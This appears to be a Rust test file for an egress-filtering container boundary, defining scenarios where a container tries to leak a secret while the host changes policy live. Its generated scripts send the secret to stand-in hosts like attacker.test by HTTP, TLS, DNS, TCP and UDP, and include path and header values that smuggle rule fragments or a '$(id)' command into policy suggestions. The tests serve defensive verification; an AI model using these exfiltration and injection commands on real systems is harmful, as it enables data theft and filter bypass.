//! The host changes what is allowed while a container runs: at no moment may more pass than the rules
//! before or after let, and never more than the host's layers do.

use test_support::hosts::WILD;

use crate::pairing::Family;
use crate::row::{Control, Counts, Meanwhile, ROW, Row, Trace};
use crate::scene::Scene;

pub(crate) const ROWS: &[Row] = &[
    Row {
        name: "live_policy_beyond_the_hosts_layers",
        attack: "the host puts a policy into force that allows everything, under a layer (`ceiling.d`) that doesn't; then the secret is \
                 sent by address, by names, by TLS, UDP and DNS",
        defence: "a layer bounds every permit, whatever the policy and whoever changed it",
        script: beyond,
        settings: "-bounded",
        meanwhile: WIDENED,
        control: Control::Filtered("", WIDENED),
        // One of the names is allowed, wherever its client says that it leads.
        counts: Counts::AtTheAttackers,
        recorded: Some(Trace::Secret),
        ..ROW
    },
    Row {
        name: "live_policy_and_flows_that_are_open",
        attack: "TCP that is passed on unread, HTTP between two requests and within a body, and UDP, all open while the host denies \
                 them; the secret is said on each afterwards, and asked for by DNS",
        defence: "a change cuts what it denies, of whatever was open, before the host is told that it is done",
        script: open_before,
        meanwhile: Meanwhile::TheHost("boundary-shim policy apply /etc/boundary/live/less.yaml $1"),
        control: Control::Filtered("", UNCHANGED),
        ..ROW
    },
    Row {
        name: "live_policy_and_connections_that_race",
        attack: "four threads that connect as fast as they can and send the secret, while the host changes between two policies \
                 twenty times; one opens the name for some paths, the other its address on another port, neither what is sent",
        defence: "a policy is exchanged whole, and what was decided by one is judged again by the next",
        script: race,
        meanwhile: Meanwhile::TheHost(
            "for change in $(seq 10); do
               boundary-shim policy apply /etc/boundary/live/by-path.yaml $1
               boundary-shim policy apply /etc/boundary/live/by-address.yaml $1
             done > /dev/null",
        ),
        control: Control::Filtered(
            "",
            Meanwhile::TheHost(
                "for change in $(seq 5); do
                   boundary-shim policy apply /etc/boundary/live/by-address.yaml $1
                   boundary-shim policy apply /etc/boundary/live/everything.yaml $1
                 done > /dev/null",
            ),
        ),
        seconds: 240,
        alone: true,
        ..ROW
    },
    Row {
        name: "live_policy_by_words_of_a_suggestion",
        attack: "requests that are allowed, whose names, methods and paths look like further words of a rule, like lists, patterns, \
                 comments and ends of lines; then the host takes what `policy suggest` makes of them for the policy",
        defence: "each rule of a suggestion is tried by the code that enforces it, and allows what was done and nothing else",
        script: suggested,
        meanwhile: Meanwhile::TheHost(
            "boundary-shim policy suggest $1 > /tmp/$1.yaml
             boundary-shim policy apply /tmp/$1.yaml $1",
        ),
        control: Control::Filtered("", UNCHANGED),
        recorded: Some(Trace::Secret),
        seconds: 180,
        ..ROW
    },
];

const WIDENED: Meanwhile =
    Meanwhile::TheHost("boundary-shim policy apply /etc/boundary/live/everything.yaml $1");
const UNCHANGED: Meanwhile = Meanwhile::TheHost(":");

/// Lets the host begin, and waits until it is done.
const IN_BETWEEN: &str = "touch /tmp/ready; until [ -e /tmp/done ]; do sleep 0.1; done";

fn beyond(scene: &Scene<'_>) -> String {
    let (address, secret) = (scene.target_in_urls(), &scene.secret);
    format!(
        "{IN_BETWEEN}
         for host in '{address}' attacker.test {secret}.attacker.test a.wild.test; do
           curl -g -s -m 3 -H \"Host: $host\" http://{address}/{secret}
           curl -g -ks -m 3 --resolve $host:443:{address} https://$host/{secret}
         done
         curl -g -s -m 3 http://{address}:8080/{secret}
         attacker dns udp {address}:53 {secret}.attacker.test
         for port in 22 8080; do attacker send tcp {address}:$port {secret}; done
         for port in 443 9999; do attacker send udp {address}:$port {secret}; done"
    )
}

fn open_before(scene: &Scene<'_>) -> String {
    // The name has to be known for the address.
    format!(
        "nslookup a.wild.test >/dev/null; attacker hold {} {secret}; nslookup {secret}.wild.test",
        wild(scene).0,
        secret = scene.secret
    )
}

/// From the first change on: before, all that is sent is allowed.
fn race(scene: &Scene<'_>) -> String {
    let ((_, address), secret) = (wild(scene), &scene.secret);
    format!(
        "touch /tmp/ready; while curl -sf -m 5 -o /dev/null http://a.wild.test/; do :; done
         attacker race {address}:80 \"$(printf 'GET /{secret} HTTP/1.1\\r\\nHost: a.wild.test\\r\\n\\r\\n.')\" &
         attacker race {address}:5432 {secret} &
         wait"
    )
}

/// What a request of an allowed name says: each is to be allowed by what the host makes of it, and nothing
/// that comes later.
fn suggested(scene: &Scene<'_>) -> String {
    let (address, secret) = (scene.target_in_urls(), &scene.secret);
    let ((_, target), family) = match scene.circumstances.family {
        Family::V4 => (wild(scene), 4),
        Family::V6 => (wild(scene), 6),
    };
    let paths = [
        "/a,/*",
        "/*",
        "/**",
        "/?",
        "/a*",
        "/%2a",
        "/%0a%20%20-%20domain=attacker.test",
        "/a%20domain=*.attacker.test",
        "/a\\ndomain=attacker.test",
        "/a#",
        "/a\"",
        "/a'",
        "/..%2f*",
        "/{a,b}",
        "/[!a]*",
        "/$(id)",
    ]
    .map(|path| format!("'{}'", path.replace('\'', "'\\''")))
    .join(" ");
    let methods = ["GET,POST", "*", "G*T", "GET|POST", "'GET'"]
        .map(|method| format!("\"{method}\""))
        .join(" ");
    format!(
        "ask() {{ curl -{family} -g -s -m 5 -o /dev/null --path-as-is \"$@\"; }}
         ask http://allowed.test/
         for path in {paths}; do ask http://a.wild.test\"$path\"; done
         for method in {methods}; do ask -X \"$method\" http://a.wild.test/m; done
         for name in '*' '*.b' 'a,b' 'a domain=attacker' 'x\"' '-' '#a'; do
           ask -H \"Host: $name.wild.test\" http://a.wild.test/h
           ask --resolve \"$name.wild.test:80:{target}\" \"http://$name.wild.test/h\"
         done
         {IN_BETWEEN}
         for host in a.wild.test {secret}.wild.test b.wild.test; do
           for path in / /a/ /a, /a. /m/; do
             ask --resolve $host:80:{target} http://$host$path{secret}
             ask -X PUT --resolve $host:80:{target} http://$host$path{secret}
           done
         done
         curl -g -s -m 3 http://{address}/{secret}
         nslookup {secret}.wild.test
         attacker send tcp {target}:8080 {secret}"
    )
}

/// The host of whom some things are allowed, and its address as URLs have it.
fn wild(scene: &Scene<'_>) -> (String, String) {
    match scene.circumstances.family {
        Family::V4 => (WILD.v4.to_string(), WILD.v4.to_string()),
        Family::V6 => (WILD.v6.to_string(), format!("[{}]", WILD.v6)),
    }
}
